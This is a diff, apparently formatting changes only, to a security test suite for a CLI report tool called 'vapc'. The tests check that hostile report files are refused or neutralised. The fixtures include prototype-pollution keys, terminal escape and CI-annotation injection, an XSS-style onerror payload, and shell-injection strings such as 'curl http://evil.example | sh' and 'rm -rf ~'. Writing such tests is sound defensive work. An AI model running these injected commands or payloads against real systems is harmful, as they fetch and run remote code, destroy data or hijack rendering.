@@ -20,7 +20,8 @@ import { FIXTURES } from '../../helpers/reports.js';
 const root = mkdtempSync(join(tmpdir(), 'vapc-hostile-artefacts-'));
 afterAll(() => rmSync(root, { recursive: true, force: true }));
 
-const fixture = (name: string): RunReport => JSON.parse(readFileSync(join(FIXTURES, `${name}.json`), 'utf8')) as RunReport;
+const fixture = (name: string): RunReport =>
+  JSON.parse(readFileSync(join(FIXTURES, `${name}.json`), 'utf8')) as RunReport;
 
 /** A directory holding `report` (an object, or raw JSON text) as report.json. */
 function dirWith(report: unknown): string {
@@ -36,7 +37,12 @@ function shardDirs(edit: (parts: RunReport[]) => void = () => {}): string[] {
   const parts = [whole.results.slice(0, cut), whole.results.slice(cut)].map((results, i) => ({
     ...whole,
     results,
-    shard: { index: i + 1, count: 2, plan_size: whole.results.length, positions: results.map((_, k) => k + (i === 0 ? 0 : cut)) },
+    shard: {
+      index: i + 1,
+      count: 2,
+      plan_size: whole.results.length,
+      positions: results.map((_, k) => k + (i === 0 ? 0 : cut)),
+    },
   }));
   edit(parts);
   return parts.map(dirWith);
@@ -85,12 +91,22 @@ const CHILD = join(process.cwd(), 'test', 'catalog', 'hostile', 'artefacts-child
 async function vapcChild(args: string[]): Promise<Measured> {
   const run = promisify(execFile);
   try {
-    const { stdout } = await run(process.execPath, ['--max-old-space-size=512', '--import', 'tsx', CHILD, JSON.stringify(args)], { timeout: 60_000, maxBuffer: 1 << 20 });
+    const { stdout } = await run(
+      process.execPath,
+      ['--max-old-space-size=512', '--import', 'tsx', CHILD, JSON.stringify(args)],
+      { timeout: 60_000, maxBuffer: 1 << 20 },
+    );
     const r = JSON.parse(stdout) as { code: number; stdout: string; stderr: string; ms: number; rssMb: number };
     return { code: r.code, out: r.stdout, err: r.stderr, ms: r.ms, rssMb: r.rssMb };
   } catch (e) {
     const failure = e as { code?: number | string; signal?: string; stderr?: string };
-    return { code: Number(failure.code ?? -1), out: '', err: `child died (${failure.signal ?? failure.code}): ${String(failure.stderr ?? '').slice(-300)}`, ms: Infinity, rssMb: Infinity };
+    return {
+      code: Number(failure.code ?? -1),
+      out: '',
+      err: `child died (${failure.signal ?? failure.code}): ${String(failure.stderr ?? '').slice(-300)}`,
+      ms: Infinity,
+      rssMb: Infinity,
+    };
   }
 }
 
@@ -142,7 +158,10 @@ describe('hostile report artefacts: refused with exit 2 and one line', () => {
 
   it('a huge array (300 000 observations) is refused by its bound', async () => {
     const r0 = fixture('passing-run');
-    const dir = dirWith({ ...r0, observations: Array.from({ length: 300_000 }, (_, i) => ({ id: 'o', message: `m${i}` })) });
+    const dir = dirWith({
+      ...r0,
+      observations: Array.from({ length: 300_000 }, (_, i) => ({ id: 'o', message: `m${i}` })),
+    });
     const r = await vapcChild(['report', dir]);
     expectRefused(r, /observations must NOT have more than 100000 items/);
     expect(r.ms).toBeLessThan(BIG.ms);
@@ -161,7 +180,10 @@ describe('hostile report artefacts: refused with exit 2 and one line', () => {
 
   it('deep nesting (100 000 levels in config) is refused before anything walks it', async () => {
     const r0 = fixture('passing-run');
-    const text = JSON.stringify({ ...r0, config: { x: '@' } }).replace('"@"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`);
+    const text = JSON.stringify({ ...r0, config: { x: '@' } }).replace(
+      '"@"',
+      `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
+    );
     const started = Date.now();
     expectRefused(await vapc(['report', dirWith(text)]), /nested deeper than 64 levels/);
     expect(Date.now() - started).toBeLessThan(BIG.ms);
@@ -169,20 +191,49 @@ describe('hostile report artefacts: refused with exit 2 and one line', () => {
 
   it('a __proto__ key in a result', async () => {
     const text = JSON.stringify(fixture('failing-run')).replace('"id":', '"__proto__":{"polluted":true},"id":');
-    expectRefused(await vapc(['report', dirWith(text), '--format', 'console']), /key \/results\/0\/__proto__ is refused/);
+    expectRefused(
+      await vapc(['report', dirWith(text), '--format', 'console']),
+      /key \/results\/0\/__proto__ is refused/,
+    );
   });
 
   it('a constructor key in the summary', async () => {
-    const text = JSON.stringify(fixture('failing-run')).replace('"summary":{', '"summary":{"constructor":{"prototype":1},');
-    expectRefused(await vapc(['report', dirWith(text), '--format', 'console']), /key \/summary\/constructor is refused/);
+    const text = JSON.stringify(fixture('failing-run')).replace(
+      '"summary":{',
+      '"summary":{"constructor":{"prototype":1},',
+    );
+    expectRefused(
+      await vapc(['report', dirWith(text), '--format', 'console']),
+      /key \/summary\/constructor is refused/,
+    );
   });
 
   const wrongTypes: Array<[string, (r: RunReport) => void, RegExp]> = [
-    ['requests as a string', (r) => ((r.results[0] as unknown as Record<string, unknown>).requests = 'many'), /results\[0\]\.requests must be integer/],
-    ['a negative summary count', (r) => ((r.summary as unknown as Record<string, unknown>).requests = -5), /summary\.requests must be >= 0/],
-    ['a failure without expected', (r) => ((r.results[1]!.failures as unknown[])[0] = { actual: 'x' }), /results\[1\]\.failures\[0\]\.expected is missing/],
-    ['expected as an object', (r) => ((r.results[1]!.failures![0] as unknown as Record<string, unknown>).expected = { a: 1 }), /expected must be string/],
-    ['a message of 200 000 characters', (r) => (r.results[0]!.message = 'x'.repeat(200_000)), /message must NOT have more than 100000 characters/],
+    [
+      'requests as a string',
+      (r) => ((r.results[0] as unknown as Record<string, unknown>).requests = 'many'),
+      /results\[0\]\.requests must be integer/,
+    ],
+    [
+      'a negative summary count',
+      (r) => ((r.summary as unknown as Record<string, unknown>).requests = -5),
+      /summary\.requests must be >= 0/,
+    ],
+    [
+      'a failure without expected',
+      (r) => ((r.results[1]!.failures as unknown[])[0] = { actual: 'x' }),
+      /results\[1\]\.failures\[0\]\.expected is missing/,
+    ],
+    [
+      'expected as an object',
+      (r) => ((r.results[1]!.failures![0] as unknown as Record<string, unknown>).expected = { a: 1 }),
+      /expected must be string/,
+    ],
+    [
+      'a message of 200 000 characters',
+      (r) => (r.results[0]!.message = 'x'.repeat(200_000)),
+      /message must NOT have more than 100000 characters/,
+    ],
   ];
   for (const [what, edit, why] of wrongTypes) {
     it(`wrong types: ${what}`, async () => {
@@ -195,23 +246,44 @@ describe('hostile report artefacts: refused with exit 2 and one line', () => {
   it('ANSI in a suite name (suites are an enum)', async () => {
     const r = fixture('failing-run');
     (r.results[0] as unknown as Record<string, unknown>).suite = 'auth\u001b[2J\u001b]0;owned\u0007';
-    expectRefused(await vapc(['report', dirWith(r), '--format', 'console']), /results\[0\]\.suite must be one of auth, /);
+    expectRefused(
+      await vapc(['report', dirWith(r), '--format', 'console']),
+      /results\[0\]\.suite must be one of auth, /,
+    );
   });
 
   it('OSC, ::error and a Markdown link in not_observed[].this_run (an enum)', async () => {
     const r = forgedKnown();
-    r.baseline!.not_observed = [{ check: 'a.b', operation: 'GET /x', kind: 'mismatch', reason: 'r', this_run: 'passed\u001b]8;;http://evil\u0007\r::error::pwned [x](http://evil)' as 'passed' }];
-    expectRefused(await vapc(['report', dirWith(r), '--format', 'console']), /not_observed\[0\]\.this_run must be one of passed, failed, skipped, error, not-run/);
+    r.baseline!.not_observed = [
+      {
+        check: 'a.b',
+        operation: 'GET /x',
+        kind: 'mismatch',
+        reason: 'r',
+        this_run: 'passed\u001b]8;;http://evil\u0007\r::error::pwned [x](http://evil)' as 'passed',
+      },
+    ];
+    expectRefused(
+      await vapc(['report', dirWith(r), '--format', 'console']),
+      /not_observed\[0\]\.this_run must be one of passed, failed, skipped, error, not-run/,
+    );
   });
 });
 
 describe('hostile report artefacts: rendered inert', () => {
-  const HOSTILE = '\u001b[31mred\u001b]0;title\u0007\r::error::injected\n::warning file=x::two [link](http://evil.example) ![img](http://evil.example/x.png) <img src=x onerror=alert(1)>';
+  const HOSTILE =
+    '\u001b[31mred\u001b]0;title\u0007\r::error::injected\n::warning file=x::two [link](http://evil.example) ![img](http://evil.example/x.png) <img src=x onerror=alert(1)>';
 
   /** The failing fixture with hostile text in every free-text field vapc used to pass through. */
   function hostile(): RunReport {
     const r = fixture('failing-run');
-    r.results = r.results.map((x) => ({ ...x, id: `${x.id}${HOSTILE}`, operation: `${x.operation} ${HOSTILE}`, rule: `${x.rule} ${HOSTILE}`, message: `${x.message} ${HOSTILE}` }));
+    r.results = r.results.map((x) => ({
+      ...x,
+      id: `${x.id}${HOSTILE}`,
+      operation: `${x.operation} ${HOSTILE}`,
+      rule: `${x.rule} ${HOSTILE}`,
+      message: `${x.message} ${HOSTILE}`,
+    }));
     r.observations = r.observations.map((o) => ({ ...o, id: `${o.id}${HOSTILE}`, operation: HOSTILE }));
     r.spec_version = HOSTILE;
     return r;
@@ -224,10 +296,13 @@ describe('hostile report artefacts: rendered inert', () => {
     expect(r.out).toContain('\\x1b[31mred');
   });
 
-  it('the GitHub step summary and annotations render no link, image, HTML or command of the report\'s making', async () => {
+  it("the GitHub step summary and annotations render no link, image, HTML or command of the report's making", async () => {
     const summary = join(mkdtempSync(join(root, 'gh-')), 'summary.md');
     writeFileSync(summary, '');
-    const r = await vapc(['report', dirWith(hostile()), '--format', 'console'], { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: summary });
+    const r = await vapc(['report', dirWith(hostile()), '--format', 'console'], {
+      GITHUB_ACTIONS: 'true',
+      GITHUB_STEP_SUMMARY: summary,
+    });
     const md = readFileSync(summary, 'utf8');
     expectInert(md);
     // Outside code spans (where nothing renders), no `](` that is not escaped, no HTML tag.
@@ -243,16 +318,24 @@ describe('hostile report artefacts: rendered inert', () => {
 
   it('a rule of an unknown check id reaches SARIF as plain text only, never as Markdown', async () => {
     const r = fixture('failing-run');
-    const evil = { ...r.results[1]!, id: 'evil.unknown-check', rule: '[click](http://evil.example) <img src=x onerror=alert(1)> **bold**' };
+    const evil = {
+      ...r.results[1]!,
+      id: 'evil.unknown-check',
+      rule: '[click](http://evil.example) <img src=x onerror=alert(1)> **bold**',
+    };
     r.results.push(evil);
     const dir = dirWith(r);
     await vapc(['report', dir, '--format', 'sarif']);
-    const sarif = JSON.parse(readFileSync(join(dir, 'report.sarif'), 'utf8')) as { runs: Array<{ tool: { driver: { rules: Array<{ id: string; help: { text: string; markdown?: string } }> } } }> };
+    const sarif = JSON.parse(readFileSync(join(dir, 'report.sarif'), 'utf8')) as {
+      runs: Array<{ tool: { driver: { rules: Array<{ id: string; help: { text: string; markdown?: string } }> } } }>;
+    };
     const rule = sarif.runs[0]!.tool.driver.rules.find((x) => x.id === 'evil.unknown-check')!;
     expect(rule.help.markdown).toBeUndefined();
     expect(rule.help.text).toContain('[click](http://evil.example)');
     // The registry's own rules keep their Markdown help.
-    expect(sarif.runs[0]!.tool.driver.rules.find((x) => x.id === 'ranges.max-concurrency-above-maximum')!.help.markdown).toBeDefined();
+    expect(
+      sarif.runs[0]!.tool.driver.rules.find((x) => x.id === 'ranges.max-concurrency-above-maximum')!.help.markdown,
+    ).toBeDefined();
   });
 
   it('a forged baseline.known: true on a failed result does not hide it (vapc report)', async () => {
@@ -265,7 +348,9 @@ describe('hostile report artefacts: rendered inert', () => {
   it('a forged baseline.known: true on a failed result does not hide it (vapc report merge)', async () => {
     const dirs = shardDirs((parts) => {
       const failed = parts[0]!.results.find((x) => x.status === 'failed')!;
-      for (const p of parts) for (const x of p.results) if (x.status === 'failed' && x !== failed) Object.assign(x, { status: 'passed', failures: [] });
+      for (const p of parts)
+        for (const x of p.results)
+          if (x.status === 'failed' && x !== failed) Object.assign(x, { status: 'passed', failures: [] });
       failed.baseline = { known: true, kinds: ['status:4xx'], reason: 'accepted' };
       for (const p of parts) p.results = p.results.map((x) => (x.status === 'error' ? { ...x, status: 'passed' } : x));
     });
@@ -276,9 +361,17 @@ describe('hostile report artefacts: rendered inert', () => {
     expect(merged.results.filter((x) => x.status === 'failed').every((x) => x.baseline === undefined)).toBe(true);
   });
 
-  it('the replay command built from a forged config stays one command (no shell text of the report\'s making)', async () => {
+  it("the replay command built from a forged config stays one command (no shell text of the report's making)", async () => {
     const f = fixture('failing-run');
-    const r = await vapc(['report', dirWith({ ...f, config: { ...f.config, suites: ['auth', 'x; curl http://evil.example | sh'], config_file: "a'; rm -rf ~; '" } }), '--format', 'console']);
+    const r = await vapc([
+      'report',
+      dirWith({
+        ...f,
+        config: { ...f.config, suites: ['auth', 'x; curl http://evil.example | sh'], config_file: "a'; rm -rf ~; '" },
+      }),
+      '--format',
+      'console',
+    ]);
     const replay = r.out.split('\n').find((l) => l.startsWith('replay: '))!;
     expect(replay).toContain('--suite auth');
     expect(replay).not.toContain('curl http://evil.example');
@@ -287,7 +380,15 @@ describe('hostile report artefacts: rendered inert', () => {
 
   it('forged summary counts are recomputed from the results', async () => {
     const f = fixture('failing-run');
-    const r = await vapc(['report', dirWith({ ...f, summary: { ...f.summary, passed: 900, failed: 0, skipped: 0, errors: 0, requests: 999_999_999 } }), '--format', 'console']);
+    const r = await vapc([
+      'report',
+      dirWith({
+        ...f,
+        summary: { ...f.summary, passed: 900, failed: 0, skipped: 0, errors: 0, requests: 999_999_999 },
+      }),
+      '--format',
+      'console',
+    ]);
     expect(r.code).toBe(1);
     expect(r.out).toMatch(/^total\s+6\s+6\s+2\s+1$/m);
     expect(r.out).not.toContain('999999999 requests');
